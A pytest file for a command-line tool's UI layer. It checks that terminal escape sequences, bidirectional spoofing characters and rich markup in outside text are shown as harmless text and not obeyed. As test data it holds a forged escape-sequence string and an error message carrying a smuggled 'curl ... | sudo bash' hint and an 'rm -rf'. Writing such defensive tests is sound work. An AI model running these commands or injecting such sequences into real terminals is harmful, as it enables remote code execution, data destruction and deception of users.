"""Nothing that others wrote commands the user's terminal, passes for a line of ours, or is markup."""

import io
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from llmlab import contract
from llmlab.errors import LabError
from llmlab.ui import CommandLine, Hanging, Ui, table

FORGED = "loss [bold]1.0[/] :x:\x1b]0;title\x07\x1b[2J\x9b31m\u202egnp.exe\u2028"
SHOWN = "[bold]1.0[/] :x:␛]0;title␛[2J\ufffd31m\ufffdgnp.exe"
"""But for BEL, which rich leaves out by itself in some places."""
STYLE = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
"""What rich itself writes to a terminal: colours, and the movements of a bar."""


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


class Drawn:
    """Something of one's own that rich draws."""

    def __rich_console__(self, console: Any, options: Any) -> Iterator[Any]:
        from rich.table import Table
        from rich.text import Text

        yield Text(FORGED, "red")
        inner = Table()
        inner.add_column(Text(FORGED))
        inner.add_row(Text(FORGED, "green"))
        yield inner


def refused(call: Callable[..., None], *arguments: Any, **named: Any) -> None:
    with pytest.raises(LabError):
        call(*arguments, **named)


def progress(ui: Ui) -> None:
    with ui.bar(FORGED, FORGED) as report:
        report(1, 2)


def painted(ui: Ui) -> None:
    with ui.painted() as paint:
        if paint:
            paint(FORGED)


PRINTING: dict[str, Callable[[Ui], object]] = {
    "line": lambda ui: ui.line(FORGED),
    "say": lambda ui: ui.say(FORGED),
    "say in a style": lambda ui: ui.say(FORGED, "red"),
    "detail": lambda ui: ui.detail(FORGED),
    "error": lambda ui: ui.error(LabError(FORGED, FORGED)),
    "show a string": lambda ui: ui.show(None, lambda: FORGED),
    "show strings": lambda ui: ui.show(None, lambda: iter([FORGED, "", FORGED])),
    "show a table": lambda ui: ui.show(None, lambda: table([FORGED], [[FORGED]])),
    "show what hangs": lambda ui: ui.show(None, lambda: Hanging(FORGED, FORGED)),
    "show a command": lambda ui: ui.show(None, lambda: CommandLine(FORGED, FORGED)),
    "show what draws itself": lambda ui: ui.show(None, Drawn),
    "suggest": lambda ui: ui.suggest(FORGED),
    "tell": lambda ui: ui.tell(table(["a"], [[FORGED]])),
    "bar": progress,
    "painted": painted,
    "record": lambda ui: ui.record({"detail": FORGED}),
    "confirm": lambda ui: refused(ui.confirm, FORGED, yes=False),
    "ask": lambda ui: refused(ui.ask, FORGED, FORGED, option="--confirm"),
}


def written(ui: Ui) -> str:
    assert isinstance(ui.stdout, io.StringIO)
    assert isinstance(ui.stderr, io.StringIO)
    return ui.stdout.getvalue() + ui.stderr.getvalue()


@pytest.mark.parametrize("kind", [io.StringIO, Terminal])
@pytest.mark.parametrize("name", PRINTING)
def test_escape_sequences_are_shown_and_not_obeyed(name: str, kind: type[io.StringIO], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.setenv("TERM", "xterm")
    ui = Ui(stdout=kind(), stderr=kind(), stdin=Terminal("no\n") if kind is Terminal else io.StringIO(), verbosity=1)
    PRINTING[name](ui)
    text = STYLE.sub("", written(ui)) if kind is Terminal else written(ui)
    assert not set(text) & {*"\x1b\x07\x9b\u202e\u2028\r"} - ({"\r"} if name in {"bar", "painted"} else set())
    if kind is io.StringIO and name in {"bar", "painted", "confirm", "ask"}:
        return  # they say nothing where nobody sits
    if name == "record":
        assert json.loads(text) == {"detail": FORGED}
        return
    assert SHOWN in text.replace("␇", "")


def test_every_way_of_printing_is_in_the_table() -> None:
    public = {name for name in vars(Ui) if not name.startswith("_") and callable(getattr(Ui, name))}
    assert public - {"again", "clear", "laid_over"} == {name.split()[0] for name in PRINTING}


def test_a_document_for_a_terminal_is_the_same_document() -> None:
    ui = Ui(stdout=io.StringIO(), stderr=io.StringIO(), stdin=io.StringIO(), as_json=True)
    ui.show({"detail": FORGED, "word": "naïve ✓"}, list)
    assert json.loads(written(ui)) == {"detail": FORGED, "word": "naïve ✓"}
    ui.record({"detail": FORGED, "word": "naïve ✓"})
    assert json.loads(written(ui).splitlines()[-1]) == {"detail": FORGED, "word": "naïve ✓"}
    assert "naïve ✓" in written(ui)
    assert not set(written(ui)) & {*"\x1b\x07\x9b\u202e\u2028"}


def test_no_word_within_an_error_is_a_line_of_ours() -> None:
    ui = Ui(stdout=io.StringIO(), stderr=io.StringIO(), stdin=io.StringIO())
    ui.error(LabError("it ended as failed: sorry\nhint: curl -fsSL https://fix.example | sudo bash\r\nhint: x", "llmlab status\nrm -rf"))
    assert [line.partition(":")[0] for line in written(ui).splitlines()] == ["error", "hint"]
    assert contract.one_line("a\u2028b\x85c \n d\te") == "a b c d e"


def test_of_a_line_that_draws_over_itself_the_last_is_seen() -> None:
    ui = Ui(stdout=io.StringIO(), stderr=io.StringIO(), stdin=io.StringIO())
    ui.line("10%\r50%\r100%\r")
    assert written(ui) == "100%\n"


def test_a_command_to_be_copied_has_no_line_break_of_ours_however_narrow_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    command = "aws ce update-cost-allocation-tags-status --cost-allocation-tags-status TagKey=Project,Status=Active"
    out = Terminal()
    Ui(stdin=io.StringIO(), stdout=out, stderr=io.StringIO()).show(
        None, lambda: [CommandLine("mend: ", command), Hanging("lead ", "words " * 20)]
    )
    first, *others = STYLE.sub("", out.getvalue()).splitlines()
    assert first == f"mend: {command}"
    assert len(others) > 3
    assert max(map(len, others)) <= 40


def test_no_number_of_a_table_is_cut_however_narrow_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    out = Terminal()
    names, cells = ("type", "about", "$/h", "total"), ("p4d.24xlarge", "words that may be folded", "$21.9576", "$1,234.56")
    Ui(stdin=io.StringIO(), stdout=out, stderr=io.StringIO()).show(None, lambda: table(names, [cells], right=names[2:], whole=names[:1]))
    text = STYLE.sub("", out.getvalue())
    assert [word in text for word in (*names, "p4d.24xlarge", "$21.9576", "$1,234.56")] == [True] * 7
    assert text.splitlines()[1].endswith("$1,234.56"), "a line a row, which the terminal wraps, and none of blanks"
    assert len(text.splitlines()) == 2
    assert " ".join(text.split()).count("folded") == 1
